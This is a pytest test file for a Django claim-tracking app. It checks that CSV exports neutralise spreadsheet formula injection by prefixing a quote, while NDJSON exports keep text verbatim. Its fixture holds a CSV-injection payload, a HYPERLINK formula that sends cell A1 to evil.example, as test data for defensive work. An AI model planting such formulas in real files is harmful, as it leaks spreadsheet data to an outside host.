"""Spreadsheet-safe CSV: a text that a spreadsheet would run as a formula gets a ``'`` in front in
the CSV files (OWASP, "CSV Injection"), the NDJSON files keep it verbatim, and ``excel.csv`` is
the CSV file after a UTF-8 byte order mark (docs/export.md, "Spreadsheets")."""

import csv
import io
import json

import pytest
from django.core.cache import cache

from claimtracker.api.export.collections import COLLECTIONS, FORMULA_STARTS
from claimtracker.claims import services
from tests.factories import ActorFactory, ClaimFactory, SourceFactory, StatementFactory

# Commit each test's rows, for the export's own connection to see them.
pytestmark = pytest.mark.django_db(transaction=True)

BOM = "\ufeff".encode()
# Quotes as a spreadsheet would run them, and what the CSV file must hold instead.
DANGEROUS = {
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")': (
        '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")'
    ),
    "+1 (727) 555-0100": "'+1 (727) 555-0100",
    "-x": "'-x",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "\tx": "'\tx",
    "\rx\r\n=1+1": "'\rx\r\n=1+1",
}
# Texts a spreadsheet does not run: they stay as they are.
HARMLESS = ["Order was restored.", "'=already quoted", " =after a space", "1 + 1 = 2", "Ж-x"]


@pytest.fixture(autouse=True)
def fresh_throttles():
    # The API's throttles count requests in the default cache, which outlives a test.
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def formula_statements(editor):
    """Published statements whose quotes begin like formulas (and some that do not), with a
    claim, a speaker and a source whose texts begin like formulas too."""
    speaker = ActorFactory(slug="formula-speaker", description="-a minister")
    source = SourceFactory(title="=1+1", publisher="@publisher")
    statements = [
        StatementFactory(speaker=speaker, source=source, quote=quote)
        for quote in [*DANGEROUS, *HARMLESS]
    ]
    claim = ClaimFactory(slug="formula-claim", text="-5% is the real figure", statements=statements)
    services.record_publish(by=editor, record=claim)
    return statements


def download(client, name):
    response = client.get(f"/api/v1/export/{name}")
    assert response.status_code == 200, response.content
    return response, b"".join(response.streaming_content)


def csv_records(body):
    header, *rows = csv.reader(io.StringIO(body.decode(), newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


def ndjson_records(body):
    return [json.loads(line) for line in body.decode().split("\n")[:-1]]


def test_csv_cells_that_begin_like_a_formula_get_a_quote_in_front(client, formula_statements):
    _response, body = download(client, "statements.csv")

    quotes = [record["quote"] for record in csv_records(body)]

    assert quotes == [*DANGEROUS.values(), *HARMLESS]


def test_ndjson_keeps_every_text_verbatim(client, formula_statements):
    _response, body = download(client, "statements.ndjson")

    assert [record["quote"] for record in ndjson_records(body)] == [*DANGEROUS, *HARMLESS]


def test_every_formula_start_is_neutralised_in_every_kind_of_text(client, formula_statements):
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    [claim] = csv_records(download(client, "claims.csv")[1])
    [actor] = csv_records(download(client, "actors.csv")[1])
    sources = csv_records(download(client, "sources.csv")[1])
    [source] = [source for source in sources if source["title"] == "'=1+1"]

    assert claim["text"] == "'-5% is the real figure"
    assert actor["description"] == "'-a minister"
    assert source["publisher"] == "'@publisher"


def test_numbers_dates_json_and_codes_are_never_prefixed(client, formula_statements):
    """Only texts people write are neutralised: a column of numbers, dates, timestamps, JSON or
    fixed codes is the same in both files."""
    for name, collection in COLLECTIONS.items():
        texts = {column.name for column in collection.columns if column.text}
        from_csv = csv_records(download(client, f"{name}.csv")[1])
        from_ndjson = ndjson_records(download(client, f"{name}.ndjson")[1])
        for csv_record, record in zip(from_csv, from_ndjson, strict=True):
            for column, value in record.items():
                cell = csv_record[column]
                if column in texts:
                    continue
                if value is None:
                    assert cell == "", (name, column)
                elif isinstance(value, list):
                    assert json.loads(cell) == value, (name, column)
                else:
                    assert cell == str(value), (name, column)


def test_the_excel_file_is_the_csv_file_after_a_utf8_byte_order_mark(client, formula_statements):
    _response, plain = download(client, "statements.csv")

    response, body = download(client, "statements.excel.csv")

    assert body.startswith(BOM)
    assert body[len(BOM) :] == plain
    assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert response["Content-Disposition"].endswith('.excel.csv"')
    assert response["Content-Disposition"].startswith(
        'attachment; filename="claimtracker-statements-'
    )
    records = csv_records(body[len(BOM) :])
    assert [record["quote"] for record in records] == [*DANGEROUS.values(), *HARMLESS]
    # Python's own reader for such files: "utf-8-sig" drops the byte order mark.
    with io.TextIOWrapper(io.BytesIO(body), encoding="utf-8-sig", newline="") as text:
        assert next(csv.reader(text)) == COLLECTIONS["statements"].column_names


def test_an_empty_collection_in_excel_is_a_byte_order_mark_and_a_header(client, db):
    for name, collection in COLLECTIONS.items():
        _response, body = download(client, f"{name}.excel.csv")
        assert body == BOM + (",".join(collection.column_names) + "\n").encode()


def test_the_index_gives_the_address_of_each_excel_file(client, db):
    data = client.get("/api/v1/export/").json()

    claims = data["collections"][list(COLLECTIONS).index("claims")]
    assert claims["excel.csv"] == "http://testserver/api/v1/export/claims.excel.csv"


@pytest.mark.parametrize("path", ["claims.excel", "claims.excel.ndjson", "claims.csv.excel"])
def test_other_double_extensions_are_a_404_in_the_api_error_shape(client, db, path):
    response = client.get(f"/api/v1/export/{path}")

    assert response.status_code == 404
    assert response.json()["errors"][0]["code"] == "unknown_export"
